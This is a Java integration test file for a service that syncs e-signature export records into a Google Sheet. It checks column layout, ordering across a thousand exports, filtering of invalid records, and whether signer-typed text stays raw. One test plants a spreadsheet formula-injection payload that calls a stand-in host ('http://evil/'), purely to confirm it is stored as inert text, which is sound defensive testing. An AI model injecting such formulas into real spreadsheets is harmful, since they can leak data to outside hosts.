package org.esignonbridge.sheets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.time.Duration;
import java.util.List;

import org.esignonbridge.support.OnEveryDatabase;
import org.esignonbridge.support.SheetTest;
import org.junit.jupiter.api.Test;
import org.springframework.test.context.TestPropertySource;

@OnEveryDatabase
@TestPropertySource(properties = "esignon.sheets.columns="
        + "received_at,export_id,wfuid,worktype,status,useremail,opinion,user_name,param:employee_no,param:customer_name")
class SheetSyncTest extends SheetTest {

    @Test
    void everySampleBecomesARowWithTheConfiguredColumnsUnderAHeader() {
        List<Long> ids = SAMPLES.stream().map(s -> json(postExport(sample(s))).get("id").asLong()).toList();

        await().atMost(Duration.ofSeconds(20)).until(() -> sheetRows().size() == 6);

        List<List<String>> rows = sheetRows();
        assertThat(rows.get(0)).containsExactly("received_at", "export_id", "wfuid", "worktype", "status",
                "useremail", "opinion", "user_name", "employee_no", "customer_name", "row_key");
        assertThat(rows.get(1)).element(1).isEqualTo(ids.get(0).toString());
        assertThat(rows.get(1).subList(2, 9)).containsExactly("20261102-000173", "CF", "Playing",
                "jiyoung.kim@example.com", "", "", "E-10442");
        assertThat(rows.get(1).get(0)).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\dZ");
        assertThat(rows.get(3).subList(1, 7)).containsExactly(ids.get(2).toString(), "20261103-000911", "RT",
                "Canceled", "minsu.park@example.com", "보증금 금액이 다릅니다. 수정 후 다시 보내주세요.");
        assertThat(rows.get(4)).contains("홍길동", "01098765432");
        assertThat(GOOGLE.valueInputOptions()).containsOnly("RAW");
        await().atMost(Duration.ofSeconds(10)).until(() -> deliveries("sheet", "delivered") == 5);
    }

    @Test
    void whatASignerTypesStaysTextEvenWhenItLooksLikeAFormula() {
        String formula = "=IMPORTXML(\\\"http://evil/\\\",\\\"//a\\\")";
        postExport(sample("03-reject.json")
                .replace("보증금 금액이 다릅니다. 수정 후 다시 보내주세요.", formula)
                .replace("minsu.park@example.com", "+1-555"));

        await().atMost(Duration.ofSeconds(20)).until(() -> sheetRows().size() == 2);

        assertThat(sheetRows().get(1)).contains("=IMPORTXML(\"http://evil/\",\"//a\")", "+1-555");
        assertThat(GOOGLE.valueInputOptions()).containsOnly("RAW");
    }

    @Test
    void aThousandExportsReachTheSheetInTwoAppendCallsInTheOrderReceived() throws Exception {
        camel.getRouteController().stopRoute(subscriberRoute("sheet"));
        for (int n = 0; n < 1000; n++) {
            assertThat(postExport(distinctExport("01-approve-playing.json", n)).statusCode()).isEqualTo(200);
        }

        camel.getRouteController().startRoute(subscriberRoute("sheet"));
        await().atMost(Duration.ofSeconds(60)).until(() -> sheetRows().size() == 1001);

        assertThat(GOOGLE.appendCalls()).isLessThanOrEqualTo(2);
        List<Long> idsInSheet = sheetRows().subList(1, 1001).stream().map(row -> Long.valueOf(row.get(1))).toList();
        assertThat(idsInSheet).isSorted().doesNotHaveDuplicates();
        assertThat(idsInSheet).containsExactlyElementsOf(
                jdbc.queryForList("SELECT id FROM esignon_export ORDER BY received_at, id", Long.class));
    }

    @Test
    void exportsThatDidNotPassAreNotWritten() {
        postExport(sample("01-approve-playing.json").replace("\"worktype\": \"CF\"", "\"worktype\": \"XX\""));
        postExport(sample("02-approve-complete.json"));

        await().atMost(Duration.ofSeconds(20)).until(() -> sheetRows().size() == 2);

        assertThat(sheetRows().get(1)).contains("Complete");
        assertThat(jdbc.queryForObject("SELECT COUNT(*) FROM delivery WHERE subscriber = 'sheet'", Long.class)).isOne();
    }
}
